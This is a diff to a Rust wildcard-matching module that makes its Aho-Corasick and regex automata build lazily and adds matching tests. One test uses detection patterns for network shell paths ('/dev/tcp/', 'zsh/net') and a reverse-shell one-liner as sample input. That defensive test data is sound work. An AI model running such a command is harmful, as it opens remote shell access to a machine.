@@ -123,53 +123,76 @@ pub struct RtWildcard {
     exact: Lits,
     prefix: Lits,
     suffix: Lits,
-    contains: Option<AhoCorasick>,
+    /// The `*text*` patterns' texts, as one automaton built when first needed.
+    contains: Lazy<AhoCorasick>,
     /// The same needles as `contains`, for short strings, when they are few.
     few: Option<Needles>,
-    /// The other patterns as one regex, for long strings, built the first time one needs it.
-    general: LazyRegex,
+    /// The other patterns as one regex, for long strings, built when first needed.
+    general: Lazy<Regex>,
     /// The same patterns one by one, each with the ends every match of it has (checked
     /// first: most values fail them, and they cost a comparison each).
     globs: Vec<(Ends, Glob)>,
     case_insensitive: bool,
 }
 
-/// Several patterns (regex syntax) compiled into one regex the first time a match needs it.
-/// Building a regex costs far more than loading anything else of a rule (~0.8 M instructions
-/// for a wildcard set), and the general patterns need theirs only for strings longer than
-/// [`GLOB_MAX`], which most sets never meet. The patterns are escaped literals and wildcards,
-/// so building fails only past regex-automata's size limits; [`LazyRegex::get`] then answers
-/// `None`, and the caller matches with the patterns' [`Glob`]s, which agree with the regex.
-#[derive(Debug, Default)]
-struct LazyRegex {
+/// An automaton over several patterns, built the first time a match needs it. Building one
+/// costs far more than loading anything else of a rule (~0.8 M instructions for a wildcard
+/// set's regex), and most sets never need theirs: the general patterns' regex serves only
+/// strings longer than [`GLOB_MAX`], the contains patterns' automaton only strings too long
+/// for their direct search (or sets of more than a few needles). The patterns are escaped
+/// literals and wildcards, so building fails only past the crates' size limits; [`Lazy::get`]
+/// then answers `None`, and the caller matches pattern by pattern, with the same answers.
+#[derive(Debug)]
+struct Lazy<T> {
     patterns: Vec<String>,
-    re: std::sync::OnceLock<Option<Regex>>,
+    case_insensitive: bool,
+    build: fn(&[String], bool) -> Option<T>,
+    built: std::sync::OnceLock<Option<T>>,
 }
 
-impl LazyRegex {
-    fn new(patterns: Vec<String>) -> LazyRegex {
-        LazyRegex {
+impl<T> Lazy<T> {
+    fn new(patterns: Vec<String>, ci: bool, build: fn(&[String], bool) -> Option<T>) -> Lazy<T> {
+        Lazy {
             patterns,
-            re: std::sync::OnceLock::new(),
+            case_insensitive: ci,
+            build,
+            built: std::sync::OnceLock::new(),
         }
     }
 
-    /// The regex, built on the first call; `None` when there are no patterns or it could
+    fn is_empty(&self) -> bool {
+        self.patterns.is_empty()
+    }
+
+    /// The automaton, built on the first call; `None` when there are no patterns or it could
     /// not be built.
-    fn get(&self) -> Option<&Regex> {
+    fn get(&self) -> Option<&T> {
         if self.patterns.is_empty() {
             return None;
         }
-        self.re
-            .get_or_init(|| Regex::new_many(&self.patterns).ok())
+        self.built
+            .get_or_init(|| (self.build)(&self.patterns, self.case_insensitive))
             .as_ref()
     }
 
-    /// Whether the regex has been built (for tests).
+    /// Whether the automaton has been built (for tests).
     #[cfg(test)]
     fn built(&self) -> bool {
-        self.re.get().is_some_and(Option::is_some)
+        self.built.get().is_some_and(Option::is_some)
     }
+}
+
+/// The general patterns' regex (their regex syntax already folds case where asked).
+fn build_regex(patterns: &[String], _ci: bool) -> Option<Regex> {
+    Regex::new_many(patterns).ok()
+}
+
+/// The contains patterns' automaton.
+fn build_contains(needles: &[String], ci: bool) -> Option<AhoCorasick> {
+    AhoCorasick::builder()
+        .ascii_case_insensitive(ci)
+        .build(needles)
+        .ok()
 }
 
 /// Longest string the general patterns are matched on by [`Glob`] rather than the regex
@@ -314,17 +337,8 @@ impl RtWildcard {
         } else {
             Needles::new(&contains, ci)
         };
-        let contains = if contains.is_empty() {
-            None
-        } else {
-            Some(
-                AhoCorasick::builder()
-                    .ascii_case_insensitive(ci)
-                    .build(&contains)
-                    .map_err(|e| format!("wildcard set: {e}"))?,
-            )
-        };
-        let general = LazyRegex::new(general);
+        let contains = Lazy::new(contains, ci, build_contains);
+        let general = Lazy::new(general, ci, build_regex);
         Ok(RtWildcard {
             any,
             exact: Lits::new(exact),
@@ -344,7 +358,7 @@ impl RtWildcard {
             || self.exact.exact(bytes, ci)
             || self.prefix.prefix(bytes, ci)
             || self.suffix.suffix(bytes, ci)
-            || (self.contains.is_some() && self.contains_match(s))
+            || (!self.contains.is_empty() && self.contains_match(s))
             || (!self.globs.is_empty() && self.general_match(s))
     }
 
@@ -353,10 +367,18 @@ impl RtWildcard {
     #[inline(never)]
     fn contains_match(&self, s: &str) -> bool {
         let bytes = s.as_bytes();
-        match (&self.few, &self.contains) {
-            (Some(few), _) if bytes.len() <= needles::SHORT => few.found_in(bytes),
-            (_, Some(ac)) => ac.is_match(s),
-            _ => false,
+        if let Some(few) = self.few.as_ref().filter(|_| bytes.len() <= needles::SHORT) {
+            return few.found_in(bytes);
+        }
+        match self.contains.get() {
+            Some(ac) => ac.is_match(s),
+            None => self.contains.patterns.iter().any(|n| {
+                if self.case_insensitive {
+                    occurs_folded(bytes, n.as_bytes())
+                } else {
+                    memchr::memmem::find(bytes, n.as_bytes()).is_some()
+                }
+            }),
         }
     }
 
@@ -569,9 +591,40 @@ mod tests {
             assert!(w.general.built());
             assert!(!w.matches(&long_miss));
             let mut broken = wc(&["a*bc?d*e", "x*y*z"], ci);
-            broken.general = LazyRegex::new(vec!["(".to_string()]);
+            broken.general = Lazy::new(vec!["(".to_string()], ci, build_regex);
             assert!(broken.matches(&long_hit) && !broken.matches(&long_miss));
             assert!(!broken.general.built());
+        }
+    }
+
+    #[test]
+    fn the_contains_automaton_is_built_for_the_first_string_that_needs_it() {
+        // Few needles: short strings use the direct search, a long one builds the automaton.
+        // Many needles: any string builds it. One that cannot be built answers alike.
+        let long = |s: &str| format!("{}{s}{}", "x".repeat(needles::SHORT), "y".repeat(5));
+        for ci in [false, true] {
+            let w = wc(&["*/dev/tcp/*", "*zsh/net*"], ci);
+            assert!(w.matches("bash -i >& /dev/tcp/1.2.3.4/80") && !w.matches("bash -l"));
+            assert!(!w.contains.built(), "short strings need no automaton");
+            assert!(w.matches(&long("/dev/tcp/")) && !w.matches(&long("/dev/udp/")));
+            assert!(w.contains.built());
+            assert_eq!(w.matches(&long("/DEV/TCP/")), ci);
+            let needles: Vec<String> = (0..20).map(|i| format!("*needle{i}*")).collect();
+            let many: Vec<&str> = needles.iter().map(String::as_str).collect();
+            let w = wc(&many, ci);
+            assert!(w.matches("a needle7 b") && !w.matches("a needle b"));
+            assert!(w.contains.built());
+            let cases = [
+                (wc(&["*/dev/tcp/*", "*zsh/net*"], ci), "zsh/net", "zsh/ne"),
+                (wc(&many, ci), "needle19", "needle "),
+            ];
+            for (mut broken, hit, miss) in cases {
+                broken.contains = Lazy::new(broken.contains.patterns.clone(), ci, |_, _| None);
+                assert!(broken.matches(&long(hit)) && !broken.matches(&long(miss)));
+                assert!(broken.matches(hit) && !broken.matches(miss));
+                assert_eq!(broken.matches(&long(&hit.to_ascii_uppercase())), ci);
+                assert!(!broken.contains.built());
+            }
         }
     }
 
